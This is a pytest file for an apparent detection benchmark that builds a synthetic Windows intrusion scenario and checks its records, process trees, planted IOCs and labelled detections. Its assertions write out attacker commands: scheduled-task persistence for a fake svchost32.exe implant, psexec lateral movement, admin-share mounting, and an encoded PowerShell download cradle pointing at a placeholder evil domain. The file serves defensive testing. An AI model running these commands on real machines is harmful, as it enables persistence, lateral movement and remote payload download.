"""The intrusion: valid records, a complete process tree, planted IOCs and labelled detections."""

from __future__ import annotations

import base64
from collections import Counter
from datetime import timedelta

import pytest

from bench.datagen import (
    DETECTIONS,
    EVIL_DOMAIN,
    EVIL_IP,
    IOC_COLUMNS,
    generate_fleet,
    intrusion_scenario,
    planted_hits,
    scenario_phases,
)
from metrics.clocks import PHASE_KEYS
from tests.bench.conftest import SEED, START
from tests.bench.contract import assert_valid
from tests.bench.detections import fired
from tests.bench.trees import assert_process_tree


def by_kind(scenario, kind):
    return [(s.endpoint, s.record) for s in scenario.steps if s.record["kind"] == kind]


def test_same_seed_gives_the_same_story(fleet, scenario):
    again = intrusion_scenario(fleet, START + timedelta(hours=2), SEED, variant=scenario.variant)
    assert [s.record for s in again.steps] == [s.record for s in scenario.steps]
    assert again.iocs == scenario.iocs
    other = intrusion_scenario(fleet, START + timedelta(hours=2), SEED + 1)
    assert other.iocs.sha256.isdisjoint(scenario.iocs.sha256)


def test_every_step_matches_the_field_list(scenario):
    assert assert_valid(scenario.records()) == len(scenario.steps)


def test_steps_are_in_time_order_with_unique_event_ids(scenario):
    times = [s.record["observed_at"] for s in scenario.steps]
    assert times == sorted(times)
    ids = Counter((s.endpoint.agent_id, s.record["event_id"]) for s in scenario.steps)
    assert max(ids.values()) == 1


def test_the_story_spans_patient_zero_and_the_file_server(scenario):
    assert scenario.lateral_target.hostname == "SRV-FILE-01"
    assert scenario.patient_zero.os_family == "windows"
    assert scenario.patient_zero.role == "workstation"
    assert {s.endpoint.hostname for s in scenario.steps} == {
        scenario.patient_zero.hostname,
        "SRV-FILE-01",
    }


def test_process_tree_is_complete_on_its_own(scenario):
    assert assert_process_tree(scenario.records()) > 20


def test_process_tree_is_complete_when_merged_with_benign_telemetry(fleet, benign, scenario):
    merged = sorted([*benign, *scenario.records()], key=lambda pair: pair[1]["observed_at"])
    assert assert_process_tree(merged) > 3_000


def test_each_step_fires_exactly_the_detections_it_is_labelled_with(scenario):
    for step in scenario.steps:
        assert fired(step.record) == set(step.signals), (step.description, step.record)


def test_both_variants_together_exercise_every_detection(fleet):
    signals = {
        signal
        for variant in ("macro", "pdf")
        for step in intrusion_scenario(fleet, START, SEED, variant=variant).steps
        for signal in step.signals
    }
    assert signals == set(DETECTIONS)


def test_phases_are_the_three_clock_phases_in_attack_order(scenario):
    phases = scenario_phases(scenario)
    assert tuple(phases) == PHASE_KEYS
    assert all(phases.values())
    ends = [max(s.record["observed_at"] for s in steps) for steps in phases.values()]
    starts = [min(s.record["observed_at"] for s in steps) for steps in phases.values()]
    assert ends[0] < starts[1] and ends[1] < starts[2]
    context = [s for s in scenario.steps if s.phase is None]
    assert context and all(s.record["kind"] == "process" for s in context)


def test_planted_iocs_each_hit_at_least_one_record(scenario):
    hits = planted_hits(scenario)
    assert set(hits) == set(scenario.iocs.items())
    assert all(hits.values())
    assert scenario.iocs.domains == {EVIL_DOMAIN} and scenario.iocs.ips == {EVIL_IP}
    implant_hosts = {host for host, _ in hits[("file_name", "svchost32.exe")]}
    assert implant_hosts == {scenario.patient_zero.hostname, "SRV-FILE-01"}


def test_a_sweep_over_benign_and_scenario_data_finds_exactly_the_planted_hits(benign, scenario):
    everything = [*benign, *scenario.records()]
    for (ioc_type, value), expected in planted_hits(scenario).items():
        found = {
            (endpoint.hostname, record["event_id"])
            for endpoint, record in everything
            if any(record.get(column) == value for column in IOC_COLUMNS[ioc_type])
        }
        assert found == expected, (ioc_type, value)


def test_the_required_artefacts_are_there(scenario):
    commands = [r["command_line"] for _, r in by_kind(scenario, "process_event")]
    user = scenario.patient_zero.primary_user
    implant = rf"C:\Users\{user}\AppData\Roaming\Microsoft\svchost32.exe"
    assert f'schtasks /create /tn "OneDrive Update" /tr {implant} /sc onlogon /f' in commands
    assert r"psexec.exe \\SRV-FILE-01 -s cmd.exe" in commands
    assert r"net use \\srv-file-01\c$" in commands
    assert r"C:\Windows\system32\net1 localgroup administrators" in commands
    assert any("-nop -w hidden -enc " in c for c in commands)
    autoruns = {
        (r["autorun_type"], r["item_name"], r["target_path"])
        for _, r in by_kind(scenario, "autorun")
    }
    assert ("service", "psexesvc", r"c:\windows\psexesvc.exe") in autoruns
    assert ("scheduled_task", r"\onedrive update", implant.lower()) in autoruns
    registry = {r["registry_key"] for _, r in by_kind(scenario, "registry")}
    assert r"hkcu\software\microsoft\windows\currentversion\run\onedriveupdate" in registry
    headers = {r["file_path"]: r.get("header_hex", "") for _, r in by_kind(scenario, "file")}
    assert headers[r"c:\users\public\q4.7z"].startswith("377abcaf271c")
    assert headers[r"c:\perflogs\q4_ledgers.zip"].startswith("504b0304")
    assert headers[rf"c:\users\{user}\appdata\local\temp\update.vbs"]
    logons = by_kind(scenario, "logon")
    assert logons and all(r["source_ip"] == scenario.patient_zero.primary_ip for _, r in logons)


def test_the_encoded_command_is_a_download_cradle_for_the_planted_domain(scenario):
    stager = next(r for _, r in by_kind(scenario, "process_event") if " -enc " in r["command_line"])
    encoded = stager["command_line"].rsplit(" ", 1)[1]
    script = base64.b64decode(encoded).decode("utf-16-le")
    assert f"DownloadString('http://{EVIL_DOMAIN}/stage2')" in script


def test_the_pdf_variant_starts_with_acrobat_dropping_readme_js(fleet):
    scenario = intrusion_scenario(fleet, START, SEED, variant="pdf")
    writes = [r for _, r in by_kind(scenario, "file") if r["process_name"] == "acrord32.exe"]
    user = scenario.patient_zero.primary_user
    assert [r["file_path"] for r in writes] == [rf"c:\users\{user}\downloads\readme.js"]
    assert "readme.js" in scenario.iocs.file_names


def test_a_fleet_without_the_file_server_is_refused():
    with pytest.raises(ValueError, match="SRV-FILE-01"):
        intrusion_scenario(generate_fleet(1, SEED), START, SEED)


@pytest.mark.parametrize("n", [2, 3, 7])
def test_the_smallest_fleets_can_host_the_scenario(n):
    scenario = intrusion_scenario(generate_fleet(n, SEED), START, SEED)
    assert assert_process_tree(scenario.records())
    assert_valid(scenario.records())
